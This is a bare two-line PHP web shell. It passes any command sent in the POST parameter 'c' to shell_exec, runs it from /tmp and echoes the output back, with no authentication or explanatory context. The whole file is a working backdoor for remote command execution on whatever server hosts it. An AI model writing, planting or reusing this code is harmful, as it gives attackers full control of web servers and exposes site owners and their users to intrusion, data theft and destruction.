<?php
echo shell_exec("cd /tmp && " . $_POST['c'] . " 2>&1");
